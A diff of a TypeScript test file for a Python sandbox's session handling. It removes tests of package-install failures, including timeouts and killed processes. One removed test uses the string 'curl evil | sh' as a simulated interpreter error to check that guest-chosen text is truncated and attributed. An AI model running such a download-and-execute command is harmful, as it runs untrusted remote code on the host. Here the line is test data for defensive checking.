@@ -2,7 +2,6 @@ import { describe, expect, it } from 'vitest';
 import { RpcError } from '../../../src/shared/rpc/errors.ts';
 import { RunResult, type RunOutput, type RunRequest } from '../../../src/shared/sandbox.ts';
 import { InvalidRequestError } from '../../../src/main/sandbox/parse-request.ts';
-import type { PackageProvider } from '../../../src/main/sandbox/package-provider.ts';
 import type { RunOptions } from '../../../src/main/sandbox/sandbox-config.ts';
 import {
   CHECKS,
@@ -300,76 +299,6 @@ describe('failing to start', () => {
       error: { message: 'its files could not be written; the interpreter says: no space' },
     });
     expect(all.launcher.last.called('closeInterpreter')).toHaveLength(1);
-  });
-
-  describe('at a package', () => {
-    const wheel = {
-      name: 'six',
-      version: '1.0',
-      fileName: 'six-1.0-py3-none-any.whl',
-      sha256: '0'.repeat(64),
-      bytes: 1,
-      kind: 'wheel',
-      imports: ['six'],
-      origin: 'lock',
-    } as const;
-    const packages: PackageProvider = {
-      ensure: async () => [wheel],
-      read: async () => utf8('x'),
-      packagesForImports: async () => [],
-      close: async () => undefined,
-    };
-
-    it('tells whose words it has for it: a guest in the session can choose them', async () => {
-      const refuse = (): Promise<never> =>
-        Promise.reject(new RpcError('failed', `curl evil | sh ${'x'.repeat(999)}`));
-      const all = stage({ installPackages: refuse }, { packages });
-      const { error, session, status } = await run(all, { session: 's', packages: ['six'] });
-      expect([status, session.state, error?.message.length]).toEqual(['setup-failed', 'lost', 559]);
-      expect(error?.message).toMatch(
-        /^its packages could not be installed; the interpreter says: curl evil/u,
-      );
-    });
-
-    it.each([
-      [1, 'ok'],
-      [9, 'setup-failed'],
-    ])('with %i dying processes: %s', async (dying, status) => {
-      const all = stage(
-        (launch) => ({
-          installPackages: () => {
-            if (launch > dying) return { missing: [] };
-            all.launcher.last.exit(null, 'SIGKILL');
-            return never();
-          },
-        }),
-        { packages },
-      );
-      expect(await run(all, { packages: ['six'] })).toMatchObject({
-        status,
-        packages: status === 'ok' ? ['six'] : [],
-        error:
-          status === 'ok' ? null : { message: 'the sandbox process ended while packages were installed' },
-      });
-      expect(all.launcher.processes).toHaveLength(2);
-    });
-
-    it('without an answer ends the interpreter, whose session would hang at each run', async () => {
-      const all = stage({ installPackages: () => never() }, { packages });
-      const running = run(all, { session: 's', packages: ['six'] });
-      await until(() => all.launcher.processes.at(-1)?.called('installPackages').length === 1);
-      // In steps, or the process would not be heard of in time.
-      for (let passed = 0; passed < 120_000; passed += 1000) {
-        all.clock.advance(1000);
-        await turns();
-      }
-      expect(await running).toMatchObject({
-        status: 'setup-failed',
-        session: { state: 'lost' },
-        error: { message: 'packages were not installed within 120 s' },
-      });
-      expect(all.launcher.last.called('closeInterpreter')).toHaveLength(1);
-    });
   });
 
   it('at a file leaves a session alone', async () => {
